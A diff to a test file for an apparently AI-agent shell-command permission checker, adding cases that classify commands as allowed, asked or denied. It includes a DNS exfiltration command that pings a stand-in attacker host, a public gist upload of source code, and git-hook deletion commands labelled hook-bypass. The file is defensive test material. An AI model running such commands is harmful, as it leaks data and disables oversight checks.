@@ -329,6 +329,10 @@ test('shell commands: cd, fed input, tool options, offensive tools, evasion (wit
     ['curl --resolve registry.npmjs.org:443:203.0.113.9 https://registry.npmjs.org/left-pad', 'ask', 'network'],
     ['https_proxy=http://localhost:8080 npm install', 'allow'],
     ['pip install --timeout 60 requests', 'allow'],
+    ['ping -c1 $(hostname).collect.evil.example', 'deny', 'exfiltration'],
+    ['ping -c 4 8.8.8.8', 'allow'],
+    ['gh gist create src/app.py --public', 'ask', 'upload'],
+    ['gh gist list', 'allow'],
     // Git hooks deleted or moved away are switched off.
     ['rm -rf .git/hooks', 'deny', 'hook-bypass'],
     ['mv .husky .husky.bak', 'deny', 'hook-bypass'],
